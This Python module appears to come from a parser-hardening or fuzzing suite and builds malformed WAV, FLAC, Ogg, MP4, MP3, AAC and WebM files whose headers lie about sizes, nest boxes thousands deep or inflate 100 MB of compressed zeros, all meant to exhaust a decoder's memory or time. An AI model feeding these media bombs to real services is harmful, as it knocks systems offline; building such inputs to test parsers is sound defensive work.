"""Sound and video written to hurt: headers that lie about lengths, containers without end.

Each function gives the bytes of one file; `SOUNDS` names them.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

from attack.bombs.pictures import box


def wav(
    rate: int = 16_000,
    channels: int = 1,
    bits: int = 16,
    kind: int = 1,
    size: int | None = None,
    data: bytes = bytes(3200),
) -> bytes:
    frame = max(1, channels * bits // 8)
    form = struct.pack(
        "<HHIIHH", kind, channels & 0xFFFF, rate, rate * frame & 0xFFFFFFFF, frame & 0xFFFF, bits
    )
    length = len(data) if size is None else size
    return (
        b"RIFF\xff\xff\xff\xffWAVEfmt "
        + struct.pack("<I", len(form))
        + form
        + b"data"
        + struct.pack("<I", length)
        + data
    )


def wav_length() -> bytes:
    """It says 4 GB and has a tenth of a second."""
    return wav(size=2**32 - 1)


def wav_rate() -> bytes:
    """One sample a second: an hour in 7 KB, which becomes 230 MB at 16 kHz."""
    return wav(rate=1, data=bytes(7200))


def wav_rate_huge() -> bytes:
    return wav(rate=2**32 - 1, data=bytes(1_000_000))


def wav_channels() -> bytes:
    return wav(channels=65_535, data=bytes(1_000_000))


def wav_bits() -> bytes:
    return wav(bits=65_535, data=bytes(1_000_000))


def wav_no_rate() -> bytes:
    return wav(rate=0)


def wav_floats() -> bytes:
    """Samples that are not numbers, and infinite ones."""
    return wav(
        kind=3, bits=32, data=struct.pack("<ffff", float("nan"), float("inf"), -float("inf"), 3e38) * 4000
    )


def wav_chunks() -> bytes:
    return b"RIFF\xff\xff\xff\xffWAVE" + b"LIST\0\0\0\0" * 100_000 + wav()[12:]


def flac(samples: int = 2**36 - 1, frames: bytes = b"") -> bytes:
    info = struct.pack(">HH", 65_535, 65_535) + bytes(6)
    info += (((655_350 >> 0) << 44) | (7 << 41) | (31 << 36) | samples).to_bytes(8, "big") + bytes(16)
    return b"fLaC" + b"\x80" + len(info).to_bytes(3, "big") + info + frames


def flac_samples() -> bytes:
    """It says 2^36 samples and has none."""
    return flac()


def flac_silence() -> bytes:
    """Frames of constant silence: 65,536 samples in 14 bytes, ten thousand times."""
    return flac(0, (b"\xff\xf8\x70\x08\0\xff\xff" + b"\0" + bytes(6)) * 10_000)


def flac_picture() -> bytes:
    picture = struct.pack(">II", 3, 2**31) + b"image/png" + bytes(100)
    return b"fLaC\x06" + len(picture).to_bytes(3, "big") + picture + (b"\x06\xff\xff\xff" + bytes(1000)) * 50


def ogg_page(body: bytes, serial: int, kind: int = 2, granule: int = 0) -> bytes:
    laces = bytes([255] * (len(body) // 255) + [len(body) % 255])
    head = (
        b"OggS\0" + bytes([kind]) + struct.pack("<qIII", granule, serial, 0, 0) + bytes([len(laces)]) + laces
    )
    return head + body


OPUS = b"OpusHead\1\1\0\0\x80\xbb\0\0\0\0\0"


def ogg_chained() -> bytes:
    """20,000 streams after each other."""
    return b"".join(ogg_page(OPUS, number) for number in range(20_000))


def ogg_granule() -> bytes:
    return ogg_page(OPUS, 1) + ogg_page(b"OpusTags" + bytes(8), 1, 0) + ogg_page(b"\xfc" * 3, 1, 4, 2**62)


def ogg_comments() -> bytes:
    tags = b"OpusTags" + struct.pack("<I", 2**32 - 1) + b"a" * 1000
    return ogg_page(OPUS, 1) + ogg_page(tags, 1, 0) * 2000


def mp4(*more: bytes, brand: bytes = b"isom") -> bytes:
    return box(b"ftyp", brand + bytes(4) + brand) + b"".join(more)


def sample_table(count: int, entries: bytes = b"") -> bytes:
    sizes = box(b"stsz", bytes(4) + struct.pack(">II", 1, count))
    times = box(b"stts", bytes(4) + struct.pack(">III", 1, count, 1024) + entries)
    places = box(b"stsc", bytes(4) + struct.pack(">IIII", 1, 1, count, 1)) + box(
        b"stco", bytes(4) + struct.pack(">II", 1, 8)
    )
    kind = box(b"mp4a", bytes(6) + b"\0\1" + bytes(8) + struct.pack(">HHIHH", 2, 16, 0, 48_000, 0))
    return box(b"stsd", bytes(4) + struct.pack(">I", 1) + kind) + times + places + sizes


def track(table: bytes) -> bytes:
    media = box(b"mdhd", bytes(12) + struct.pack(">III", 48_000, 2**31, 0)) + box(
        b"hdlr", bytes(8) + b"soun" + bytes(13)
    )
    media += box(b"minf", box(b"smhd", bytes(8)) + box(b"stbl", table))
    return box(b"trak", box(b"tkhd", bytes(84)) + box(b"mdia", media))


def mp4_samples() -> bytes:
    """A track of 2^31 samples of one byte."""
    return mp4(box(b"moov", box(b"mvhd", bytes(100)) + track(sample_table(2**31))))


def m4a_samples() -> bytes:
    return mp4(box(b"moov", box(b"mvhd", bytes(100)) + track(sample_table(2**28))), brand=b"M4A ")


def mp4_tracks() -> bytes:
    return mp4(box(b"moov", box(b"mvhd", bytes(100)) + track(sample_table(2**20)) * 1000), brand=b"M4A ")


def mp4_deep() -> bytes:
    data = b""
    for _ in range(5000):
        data = box(b"moov", data)
    return mp4(data, brand=b"M4A ")


def mp4_packed() -> bytes:
    """A header that is packed: 100 MB of zeros."""
    data = zlib.compress(bytes(100_000_000), 9)
    inner = box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 100_000_000) + data)
    return mp4(box(b"moov", box(b"cmov", inner)), brand=b"M4A ")


def mp3_tag() -> bytes:
    """A tag that says it is 256 MB, with 10,000 frames inside."""
    return b"ID3\4\0\0\x7f\x7f\x7f\x7f" + (b"TXXX\0\0\0\x02\0\0\0a") * 10_000


def mp3_frames() -> bytes:
    """Silence of the lowest rate: 24 bytes for 72 ms, fourteen hours in 17 MB; here 2 MB of it."""
    return (b"\xff\xe3\x18\xc4" + bytes(20)) * 90_000


def mp3_lying() -> bytes:
    """An index that says 2^32 frames."""
    return b"\xff\xfb\x90\x44" + bytes(32) + b"Xing\0\0\0\x0f" + b"\xff" * 108 + bytes(300)


def aac_frames() -> bytes:
    return (b"\xff\xf1\x6c\x40\x01\x1f\xfc" + b"\x01") * 200_000


def webm(body: bytes) -> bytes:
    head = b"\x1a\x45\xdf\xa3\x87\x42\x82\x84webm"
    return head + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" + body


def webm_deep() -> bytes:
    return webm(b"\x15\x49\xa9\x66\x01\xff\xff\xff\xff\xff\xff\xff" * 20_000)


def webm_tracks() -> bytes:
    return webm(b"\x16\x54\xae\x6b\x08\x00\x00\x00" + b"\xae\x85\xd7\x81\x01\x83\x81" * 100_000)


def webm_void() -> bytes:
    return webm(b"\xec\x80" * 500_000)


SOUNDS: dict[str, Callable[[], bytes]] = {
    function.__name__.replace("_", " "): function
    for function in (
        wav_length, wav_rate, wav_rate_huge, wav_channels, wav_bits, wav_no_rate, wav_floats, wav_chunks, flac_samples,
        flac_silence, flac_picture, ogg_chained, ogg_granule, ogg_comments, mp4_samples, m4a_samples, mp4_tracks,
        mp4_deep, mp4_packed, mp3_tag, mp3_frames, mp3_lying, aac_frames, webm_deep, webm_tracks, webm_void,
    )
}  # fmt: skip
